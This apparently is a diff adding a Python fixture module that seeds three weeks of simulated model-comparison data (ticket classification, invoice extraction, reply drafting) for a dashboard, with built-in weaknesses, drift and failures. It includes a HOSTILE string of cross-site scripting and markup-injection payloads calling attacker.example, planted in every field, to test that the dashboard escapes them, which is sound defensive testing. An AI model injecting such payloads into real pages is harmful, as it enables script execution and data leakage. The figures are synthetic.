@@ -1,0 +1,200 @@
+"""A seeded past for the pages to show: three tasks, three weeks, and known weaknesses.
+
+`ticket-intent` is worse in German and at night, `invoice-fields` has failures and knows the
+right answers, `reply-draft` knows neither answers nor preferences, so its regret is unknown.
+The last days of `ticket-intent` bring more German traffic and longer inputs: a shift.
+"""
+
+import json
+import random
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+from shadow.records import CaptureCounts, Comparison, DeadLetter, Exchange, Failure, Reply, ToolCall, Trial, Usage
+from shadow.settings import Model, Settings, Task
+
+FRONTIER, CANDIDATE = "sim-frontier", "sim-small-7b"
+DAYS = 21
+INTENTS = ("refund", "delivery", "cancel_order", "change_address", "complaint", "invoice")
+
+#: Text that would load, run or restyle something, were it ever read as markup.
+HOSTILE = (
+    '<img src="http://attacker.example/a.png" onerror="alert(1)">'
+    "![pixel](http://attacker.example/b.png) [click](javascript:alert(2))"
+    "<script>fetch('http://attacker.example/c')</script>"
+    "<style>@import 'http://attacker.example/d.css'; body{display:none}</style>"
+    "</pre></mark><iframe src='http://attacker.example/e'></iframe> $\\includegraphics{http://attacker.example/f}$ "
+    ":material/bug_report: :red[red] <svg onload=fetch('//attacker.example/g')> \u202egnp.exe"
+)
+
+
+def settings(url: str | None) -> Settings:
+    """Settings as a user of simulated models would have them."""
+    models = {
+        name: Model(base_url="http://127.0.0.1:9/v1", simulated=True) for name in (FRONTIER, CANDIDATE)
+    }
+    tasks = {
+        "ticket-intent": Task(frontier=FRONTIER, candidates=(CANDIDATE,), kind="classification", segments=("locale", "plan")),
+        "invoice-fields": Task(frontier=FRONTIER, candidates=(CANDIDATE,), kind="extraction", segments=("supplier",)),
+        "reply-draft": Task(frontier=FRONTIER, candidates=(CANDIDATE,), kind="generation", segments=("channel",)),
+    }
+    return Settings.model_validate(
+        {"models": models, "tasks": tasks, "postgres": {"url": url}}
+    )
+
+
+def toml(url: str | None) -> str:
+    """The same, as the shadow.toml that a dashboard process reads."""
+    lines = [f'[models.{name}]\nbase_url = "http://127.0.0.1:9/v1"\nsimulated = true\n' for name in (FRONTIER, CANDIDATE)]
+    for name, task in settings(url).tasks.items():
+        lines.append(
+            f'[tasks.{name}]\nfrontier = "{task.frontier}"\ncandidates = ["{CANDIDATE}"]\nkind = "{task.kind}"\n'
+            f"segments = {json.dumps(list(task.segments))}\n"
+        )
+    if url:
+        lines.append(f'[postgres]\nurl = "{url}"\n')
+    return "\n".join(lines)
+
+
+def pairs(count: int, *, end: datetime, seed: int = 7) -> Iterator[tuple[Trial, Comparison]]:
+    """`count` scored pairs over the three weeks before `end`, oldest first, hostile ones among the newest."""
+    random_ = random.Random(seed)
+    start = end - timedelta(days=DAYS)
+    moments = sorted(start + timedelta(days=DAYS) * _daily(random_) for _ in range(count))
+    for number, at in enumerate(moments):
+        task = random_.choices(("ticket-intent", "invoice-fields", "reply-draft"), (5, 3, 2))[0]
+        make = {"ticket-intent": _ticket, "invoice-fields": _invoice, "reply-draft": _draft}[task]
+        yield make(random_, f"exchange-{number:06d}", at, recent=(end - at) < timedelta(days=4))
+    yield _hostile(f"exchange-{count:06d}", end - timedelta(minutes=3))
+
+
+def ceiling(count: int, *, end: datetime, seed: int = 8) -> Iterator[tuple[Trial, Comparison]]:
+    """Some exchanges of `ticket-intent` that the frontier answered twice."""
+    random_ = random.Random(seed)
+    for number in range(count):
+        at = end - timedelta(days=DAYS) * random_.random()
+        trial, _ = _ticket(random_, f"twice-{number:06d}", at, recent=False)
+        yield (
+            Trial(exchange=trial.exchange, kind="ceiling", candidate=FRONTIER, reply=trial.exchange.reply, at=at, inclusion_probability=0.1),
+            Comparison(scorer="label", agreement=float(random_.random() < 0.965)),
+        )
+
+
+def counts(mirrored: dict[str, int], at: datetime) -> CaptureCounts:
+    """What capture says of these mirrored exchanges: a few more were accepted, and dropped."""
+    return CaptureCounts(
+        source="test/1",
+        at=at,
+        counts={
+            task: {"accepted": n + 4, "mirrored": n, "sampled_out": n // 5, "dropped:queue_full": 3, "dropped:delivery_timeout": 1}
+            for task, n in mirrored.items()
+        },
+    )
+
+
+def letters(at: datetime) -> list[DeadLetter]:
+    return [
+        DeadLetter(
+            id=f"letter-{n}", at=at, stage="worker", reason="no_candidate", detail="no candidate", topic="shadow.exchanges",
+            partition=0, offset=n, task="ticket-intent",
+        )
+        for n in range(3)
+    ]  # fmt: skip
+
+
+def _daily(random_: random.Random) -> float:
+    """A share of the three weeks, more of it by day than by night."""
+    while True:
+        share = random_.random()
+        hour = (share * DAYS * 24) % 24
+        if random_.random() < (1.0 if 7 <= hour < 20 else 0.35):
+            return share
+
+
+def _reply(random_: random.Random, model: str, content: str | None, **more: Any) -> Reply:
+    slow = model == FRONTIER
+    latency = random_.lognormvariate(6.8 if slow else 5.2, 0.35)
+    return Reply(
+        model=model, content=content, latency_ms=latency, finish_reason="stop",
+        usage=Usage(prompt_tokens=120, completion_tokens=30), cost_usd=0.0021 if slow else 0.00013, **more,
+    )  # fmt: skip
+
+
+def _exchange(id_: str, task: str, at: datetime, text: str, reply: Reply, segment: dict[str, str], **more: Any) -> Exchange:
+    messages = [{"role": "system", "content": f"You handle {task}."}, {"role": "user", "content": text}]
+    return Exchange(
+        id=id_, task=task, at=at, request={"model": FRONTIER, "messages": messages}, reply=reply, segment=segment, **more
+    )
+
+
+def _trial(exchange: Exchange, reply: Reply) -> Trial:
+    return Trial(exchange=exchange, kind="shadow", candidate=CANDIDATE, reply=reply, at=exchange.at + timedelta(seconds=2))
+
+
+def _failed(random_: random.Random, rate: float) -> Failure | None:
+    kinds: tuple[Failure, ...] = ("timeout", "refusal", "malformed", "truncated")
+    return random_.choices(kinds, (5, 2, 2, 1))[0] if random_.random() < rate else None
+
+
+def _ticket(random_: random.Random, id_: str, at: datetime, *, recent: bool) -> tuple[Trial, Comparison]:
+    locale = random_.choices(("en", "de", "fr", "pt"), (4, 4, 2, 0.1) if recent else (6, 2, 2, 0.1))[0]
+    plan = random_.choices(("free", "pro", "enterprise"), (5, 3, 1))[0]
+    truth = random_.choice(INTENTS)
+    weak = 0.04 + 0.16 * (locale == "de") + 0.08 * (at.hour < 6) + 0.10 * (locale == "de" and plan == "enterprise")
+    said = truth if random_.random() > weak else random_.choice([intent for intent in INTENTS if intent != truth])
+    text = f"Customer writes ({locale}): please help with {truth}. " * random_.randint(3, 14 if recent else 7)
+    failure = _failed(random_, 0.015)
+    exchange = _exchange(id_, "ticket-intent", at, text, _reply(random_, FRONTIER, truth), {"locale": locale, "plan": plan})
+    trial = _trial(exchange, _reply(random_, CANDIDATE, None if failure else said, failure=failure))
+    if failure:
+        return trial, Comparison(scorer="label", unscored="candidate_failed")
+    return trial, Comparison(scorer="label", agreement=float(said == truth), detail={"frontier": truth, "candidate": said})
+
+
+def _invoice(random_: random.Random, id_: str, at: datetime, *, recent: bool) -> tuple[Trial, Comparison]:
+    supplier = random_.choice(("acme", "globex", "initech"))
+    right = {"number": f"R-{random_.randint(1000, 9999)}", "total": round(random_.uniform(10, 900), 2), "currency": "EUR"}
+    said = dict(right)
+    if random_.random() < (0.25 if supplier == "globex" else 0.08):
+        said["total"] = round(right["total"] * 10, 2)  # type: ignore[operator]  # `total` is the number among them
+    failure = _failed(random_, 0.05)
+    reply = _reply(random_, FRONTIER, json.dumps(right))
+    text = f"Read this invoice of {supplier}: number {right['number']}, total {right['total']} EUR."
+    exchange = _exchange(id_, "invoice-fields", at, text, reply, {"supplier": supplier}, reference=json.dumps(right))
+    trial = _trial(exchange, _reply(random_, CANDIDATE, None if failure else json.dumps(said), failure=failure))
+    if failure:
+        return trial, Comparison(scorer="json", unscored="candidate_failed")
+    agreement = sum(right[field] == said[field] for field in right) / len(right)
+    correct = float(agreement == 1)
+    return trial, Comparison(
+        scorer="json", agreement=agreement, frontier_correct=1.0, candidate_correct=correct, regret=1 - correct,
+        net_regret=1 - correct, regret_source="reference", detail={"fields": {field: right[field] == said[field] for field in right}},
+    )  # fmt: skip
+
+
+def _draft(random_: random.Random, id_: str, at: datetime, *, recent: bool) -> tuple[Trial, Comparison]:
+    channel = random_.choice(("mail", "chat"))
+    served = "Thank you for your message. We have sent the parcel again and it will arrive on Thursday."
+    said = served.replace("Thursday", random_.choice(("Thursday", "Thursday", "Friday", "the end of the week")))
+    if random_.random() < 0.3:
+        said = said.replace("Thank you for your message. ", "Thanks for reaching out! ")
+    exchange = _exchange(id_, "reply-draft", at, "Where is my parcel?", _reply(random_, FRONTIER, served), {"channel": channel})
+    words, others = set(served.split()), set(said.split())
+    agreement = len(words & others) / len(words | others)
+    return _trial(exchange, _reply(random_, CANDIDATE, said)), Comparison(scorer="text", agreement=agreement)
+
+
+def _hostile(id_: str, at: datetime) -> tuple[Trial, Comparison]:
+    """Everything an attacker may write, in every place where model or caller text can stand."""
+    random_ = random.Random(1)
+    segment = {"locale": '<img src="http://attacker.example/h.png">', "plan": "![x](http://attacker.example/i.png)"}
+    call = ToolCall(name=HOSTILE[:80], arguments=json.dumps({"html": HOSTILE}))
+    exchange = _exchange(id_, "ticket-intent", at, HOSTILE, _reply(random_, FRONTIER, f"{HOSTILE} refund"), segment)
+    reply = _reply(random_, CANDIDATE, f"refund {HOSTILE}", tool_calls=(call,))
+    return _trial(exchange, reply), Comparison(scorer="label", agreement=0.0, detail={"why": HOSTILE})
+
+
+def last_hour() -> datetime:
+    """An end for the seeded past: a little before now, so that "last 24 h" has data."""
+    return datetime.now(UTC) - timedelta(minutes=2)
